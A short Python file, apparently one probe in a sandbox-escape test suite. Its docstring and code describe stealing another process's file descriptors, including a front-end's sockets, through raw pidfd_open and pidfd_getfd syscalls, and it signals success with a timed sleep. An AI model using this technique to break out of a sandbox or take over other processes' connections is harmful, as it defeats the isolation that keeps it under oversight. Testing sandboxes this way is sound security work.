"""Class: descriptors. Source: own find. Escape: another process's descriptor is taken: the front's
sockets. gVisor: has no such call.
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    for pid in scene["processes"].values():
        process = libc.syscall(434, pid, 0)
        for number in range(64):
            if libc.syscall(438, process, number, 0) >= 0:
                time.sleep(0.4)
                return
